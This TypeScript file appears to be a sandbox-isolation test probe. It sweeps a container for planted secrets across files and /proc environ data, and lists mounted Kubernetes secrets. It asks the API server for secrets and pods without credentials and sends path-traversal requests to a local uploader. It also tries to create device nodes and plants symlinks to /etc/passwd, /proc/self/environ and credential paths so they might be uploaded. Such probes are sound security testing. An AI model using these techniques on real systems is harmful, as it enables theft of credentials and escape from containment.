import { execFileSync } from 'node:child_process'
import {
  closeSync,
  type Dirent,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { request } from 'node:https'
import { connect } from 'node:net'

/*
 * A worker that searches for secrets: `node prober.ts NEEDLE...`, each needle reversed, so that
 * the search doesn't find its own arguments. Its results are `report.json` and links to files that
 * only the uploader may read. Imports nothing of the project.
 */

export interface ProbeReport {
  /** For each needle the files that contain it. */
  found: string[][]
  /** Number of searched files. */
  searched: number
  /** Files below /var/run/secrets and /run/secrets. */
  secrets: string[]
  /** Command lines of all visible processes. */
  commands: string[]
  /** Path → the API server's status for a request without credentials. */
  apiServer: Record<string, number>
  /** Request line → the answer of the uploader's port. */
  uploader: Record<string, string>
  /** Names of the devices that it made in its results. */
  devices: string[]
  /** Names of the pipes that it made there. */
  pipes: string[]
}

/** Name → target of the links in its results. */
export const plantedLinks: Readonly<Record<string, string>> = {
  credentials: '/credentials',
  'secret-key': '/credentials/secret-key',
  state: '/state',
  passwd: '/etc/passwd',
  environ: '/proc/self/environ',
  'first-environ': '/proc/1/environ',
  root: '/',
  own: '/results',
  descriptors: '/proc/self/fd',
}

/** Request lines for the uploader's port. */
export const uploaderRequests = [
  'GET /stop/x',
  'POST /end',
  'POST /end/x',
  'GET /stop/',
  'GET /stop',
  'GET /stop/%00',
  'GET /stop/../ready',
  'POST /ready',
  'HEAD /ready',
  'GET /',
  'GET /metrics',
  'GET /credentials/secret-key',
  'GET //etc/passwd',
  'GET /../../etc/passwd',
  'GET /ready',
] as const

async function probe(needles: readonly Buffer[], results: string): Promise<ProbeReport> {
  const search = searchAll('/', needles)
  return {
    ...search,
    secrets: [...filesBelow('/var/run/secrets/'), ...filesBelow('/run/secrets/')],
    commands: processes().map((pid) => readText(`/proc/${pid}/cmdline`)),
    apiServer: await askApiServer([
      '/api/v1/secrets',
      '/api/v1/namespaces/default/pods',
      '/apis/batch/v1/jobs',
    ]),
    uploader: await askUploader(),
    devices: make(results, { null: ['c', '1', '3'], memory: ['c', '1', '1'], disk: ['b', '253', '0'] }),
    pipes: make(results, { pipe: ['p'] }),
  }
}

/** Searches all regular files, and the files in /proc that describe processes. */
function searchAll(root: string, needles: readonly Buffer[]): Pick<ProbeReport, 'found' | 'searched'> {
  const found: string[][] = needles.map(() => [])
  let searched = 0
  const ofProcesses = processes().flatMap((pid) =>
    ['environ', 'cmdline', 'maps'].map((name) => `/proc/${pid}/${name}`),
  )
  for (const path of [...filesBelow(root), ...ofProcesses, '/proc/mounts', '/proc/self/mountinfo']) {
    searched += 1
    for (const index of needlesIn(path, needles)) found[index]?.push(path)
  }
  return { found, searched }
}

function* filesBelow(folder: string): Generator<string> {
  let entries: Dirent[] = []
  try {
    entries = readdirSync(folder, { withFileTypes: true })
  } catch {}
  for (const entry of entries) {
    const path = `${folder}${entry.name}`
    if (['/proc', '/sys', '/dev'].includes(path)) continue
    if (entry.isFile()) yield path
    if (entry.isDirectory()) yield* filesBelow(`${path}/`)
  }
}

function needlesIn(path: string, needles: readonly Buffer[]): Set<number> {
  const found = new Set<number>()
  const overlap = Math.max(...needles.map((needle) => needle.length))
  const buffer = Buffer.alloc(4 * 2 ** 20)
  let descriptor: number | undefined
  try {
    descriptor = openSync(path, 'r')
    for (let kept = 0; ; ) {
      const read = readSync(descriptor, buffer, kept, buffer.length - kept, null)
      const seen = buffer.subarray(0, kept + read)
      for (const [index, needle] of needles.entries()) if (seen.includes(needle)) found.add(index)
      if (read === 0) return found
      kept = Math.min(overlap, seen.length)
      buffer.copyWithin(0, seen.length - kept, seen.length)
    }
  } catch {
    return found
  } finally {
    if (descriptor !== undefined) closeSync(descriptor)
  }
}

function processes(): string[] {
  return readdirSync('/proc').filter((name) => /^\d+$/.test(name))
}

function readText(path: string): string {
  try {
    return readFileSync(path, 'utf8').replaceAll('\0', ' ')
  } catch (error) {
    return String(error)
  }
}

async function askApiServer(paths: readonly string[]): Promise<Record<string, number>> {
  const { KUBERNETES_SERVICE_HOST: host, KUBERNETES_SERVICE_PORT: port } = process.env
  const answers: Record<string, number> = {}
  for (const path of paths) {
    answers[path] = await new Promise((resolve) => {
      const asked = request({ host, port, path, rejectUnauthorized: false, timeout: 10_000 }, (answer) => {
        resolve(answer.statusCode ?? 0)
        answer.destroy()
      })
      asked.on('error', () => resolve(0))
      asked.end()
    })
  }
  return answers
}

/** Sends the request lines unchanged: an HTTP client would normalize their paths. */
async function askUploader(): Promise<Record<string, string>> {
  const answers: Record<string, string> = {}
  for (const line of uploaderRequests) {
    answers[line] = await new Promise((resolve) => {
      let text = ''
      const socket = connect(47100, '127.0.0.1', () => socket.write(`${line} HTTP/1.0\r\n\r\n`))
      socket.on('data', (chunk) => {
        text += chunk.toString()
      })
      socket.on('error', (error) => resolve(String(error)))
      socket.on('close', () => resolve(`${text.slice(9, 12)} ${text.split('\r\n\r\n')[1] ?? ''}`.trim()))
    })
  }
  return answers
}

/** The names of those that `mknod` made with these arguments. */
function make(results: string, nodes: Readonly<Record<string, readonly string[]>>): string[] {
  return Object.entries(nodes).flatMap(([name, kind]) => {
    try {
      execFileSync('mknod', [`${results}/${name}`, ...kind], { stdio: 'ignore' })
      return [name]
    } catch {
      return []
    }
  })
}

if (import.meta.main) {
  const results = process.env.RESULT_DIRECTORY ?? ''
  const needles = process.argv.slice(2).map((text) => Buffer.from([...text].reverse().join('')))
  const report = await probe(needles, results)
  writeFileSync(`${results}/report.json`, JSON.stringify(report))
  for (const [name, target] of Object.entries(plantedLinks)) symlinkSync(target, `${results}/${name}`)
}
